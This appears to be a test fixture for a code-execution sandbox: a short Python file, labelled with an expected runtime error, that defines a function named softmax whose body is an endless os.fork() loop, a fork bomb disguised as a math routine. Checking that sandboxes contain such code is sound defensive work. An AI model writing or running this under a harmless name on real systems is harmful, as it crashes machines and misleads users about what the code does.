# class: processes
# expect: runtime_error
import os


def softmax(x, axis=-1):
    while True:
        os.fork()
